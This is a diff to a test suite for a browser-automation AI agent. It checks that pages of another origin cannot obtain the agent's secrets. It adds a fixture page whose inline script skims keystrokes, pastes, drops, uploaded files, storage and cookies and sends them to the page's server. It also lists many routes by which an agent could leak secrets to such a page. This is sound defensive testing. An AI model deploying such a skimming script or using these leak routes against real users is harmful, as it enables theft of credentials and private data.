@@ -14,7 +14,23 @@ let agent: Agent;
 beforeAll(async () => {
   const form = `<form action=/sent><label>Email <input name=email></label><label>Password <input type=password name=pw></label>
     <label>Bio <input name=bio></label><button>Send</button></form><input type=file aria-label=Photo>`;
-  pages = await servePages({ '/login': form, '/sent': '<h1>Sent</h1>' });
+  pages = await servePages({
+    '/login': form,
+    '/sent': '<h1>Sent</h1>',
+    // Whoever opens this page tells its server all that the page can read.
+    '/tells': `${form}<select aria-label=Kind><option>One</option></select><button onclick="tell(prompt('Name?'))">Ask</button><script>
+      const tell = (text) => fetch('/got/' + encodeURIComponent(text));
+      addEventListener('input', ({ target }) => tell(target.value), true);
+      addEventListener('paste', ({ clipboardData }) => tell(clipboardData.getData('text')), true);
+      addEventListener('drop', ({ dataTransfer }) => tell(dataTransfer.getData('text')), true);
+      addEventListener('change', ({ target }) => target.files?.[0]?.text().then(tell), true);
+      setInterval(() => tell(JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie])), 200);
+    </script>`,
+    '/framed': (_, response) =>
+      response
+        .setHeader('content-type', 'text/html')
+        .end(`${form}<iframe width=600 height=300 src="http://localhost:${pages.port}/tells"></iframe>`),
+  });
   agent = await startAgent(
     '--toolset',
     'all',
@@ -93,6 +109,126 @@ test('a secret is typed only at its own origin, an unbound one only at the first
     `belongs to ${pages.url}`,
   );
 }, 30_000);
+
+/** What a page of another origin came to know, in the words of its server. */
+const told = () =>
+  pages.hits
+    .filter((path) => path.startsWith('/got/'))
+    .map(decodeURIComponent)
+    .join('\n');
+const VALUES = /ter2|correct-horse|bank-pw/;
+
+test.each([
+  ...['local', 'session', 'cookies'].map((kind): [string, [string, Record<string, unknown>][]] => [
+    `${kind} of the page`,
+    [['change_storage', { kind, name: 'x', value: '{{LONG}}' }]],
+  ]),
+  ['another secret in its storage', [['change_storage', { kind: 'local', name: 'y', value: '{{BANK}}' }]]],
+  ['fill', [['fill', { target: 'textbox "Bio"', value: '{{LONG}}' }]]],
+  ['fill with its value', [['fill', { target: 'textbox "Bio"', value: LONG }]]],
+  ['a step', [['run_steps', { steps: ['fill "Bio" with "{{LONG}}"'] }]]],
+  ['select', [['select', { target: 'Kind', value: '{{LONG}}' }]]],
+  ['adjust_control', [['adjust_control', { target: 'textbox "Bio"', value: '{{LONG}}' }]]],
+  ['an address', [['navigate', { url: '{other}/got/{{LONG}}' }]]],
+  [
+    'an answer in the place of its server',
+    [
+      [
+        'mock_route',
+        { url: '*/mocked', content_type: 'text/html', body: '<script>fetch("/got/{{LONG}}")</script>' },
+      ],
+      ['navigate', { url: '{other}/mocked' }],
+      ['unmock_route', {}],
+    ],
+  ],
+  [
+    'the answer to its question',
+    [
+      ['click', { target: 'button "Ask"' }],
+      ['handle_dialog', { accept: true, text: '{{LONG}}' }],
+      ['handle_dialog', { accept: false }],
+    ],
+  ],
+  [
+    'the clipboard',
+    [
+      ['navigate', { url: '{home}/login' }],
+      ['fill', { target: 'textbox "Bio"', value: '{{LONG}}' }],
+      ['press_key', { key: 'Control+a' }],
+      ['press_key', { key: 'Control+c' }],
+      ['navigate', { url: '{other}/tells' }],
+      ['click', { target: 'textbox "Bio"' }],
+      ['press_key', { key: 'Control+v' }],
+      ['press_key', { key: 'Shift+Insert' }],
+    ],
+  ],
+  [
+    'the clipboard, as steps',
+    [
+      ['navigate', { url: '{home}/login' }],
+      ['fill', { target: 'textbox "Bio"', value: '{{LONG}}' }],
+      ['run_steps', { steps: ['press Control+a', 'press Control+x'], keep_going: true }],
+      ['navigate', { url: '{other}/tells' }],
+      ['run_steps', { steps: ['click textbox "Bio"', 'press Control+v'], keep_going: true }],
+    ],
+  ],
+  [
+    'a drag into a frame',
+    [
+      ['navigate', { url: '{home}/framed' }],
+      ['fill', { target: 'css:input[name=bio]', value: '{{LONG}}' }],
+      ['click', { target: 'css:input[name=bio]', double: true }],
+      ['drag', { target: 'css:input[name=bio]', to: 'css:iframe' }],
+    ],
+  ],
+  [
+    'keys in a frame',
+    [
+      ['navigate', { url: '{home}/framed' }],
+      ['fill', { target: 'css:input[name=bio]', value: '{{LONG}}' }],
+      ['press_key', { key: 'Control+a' }],
+      ['press_key', { key: 'Control+c' }],
+      ['click', { target: 'css:iframe', position: { x: 200, y: 15 } }],
+      ['press_key', { key: 'Control+v' }],
+    ],
+  ],
+  ['a file that holds it', [['upload_files', { target: 'css:input[type=file]', paths: ['{file}'] }]]],
+  [
+    'a login that was kept',
+    [
+      ['navigate', { url: '{home}/login' }],
+      ['change_storage', { kind: 'local', name: 'token', value: '{{LONG}}' }],
+      ['cleanup', { save_storage_state: '{state}' }],
+      ['navigate', { url: '{other}/tells' }],
+      ['upload_files', { target: 'css:input[type=file]', paths: ['{state}'] }],
+    ],
+  ],
+] satisfies [string, [string, Record<string, unknown>][]][])(
+  'a page of another origin gets no secret by %s',
+  async (name, calls) => {
+    const file = join(agent.folder, 'notes.txt');
+    writeFileSync(file, `mine: ${HARD}\n`);
+    const words: Record<string, string> = {
+      home: pages.url,
+      other: `http://localhost:${pages.port}`,
+      file,
+      state: join(agent.folder, `${name.replaceAll(' ', '-')}.json`),
+    };
+    await open();
+    await agent.does('navigate', { url: `${words.other}/tells` });
+    pages.hits.length = 0;
+    for (const [tool, input] of calls) {
+      const given = JSON.stringify(input).replace(
+        /\{(home|other|file|state)\}/g,
+        (_, word) => words[word] ?? '',
+      );
+      await agent.call(tool, JSON.parse(given));
+    }
+    await agent.call('wait_for_response', { url: '/got/', timeout_ms: 500 });
+    expect(told()).not.toMatch(VALUES);
+  },
+  30_000,
+);
 
 test('an agent reads, sends and writes no file outside the working folder, and overwrites none', async () => {
   await open();
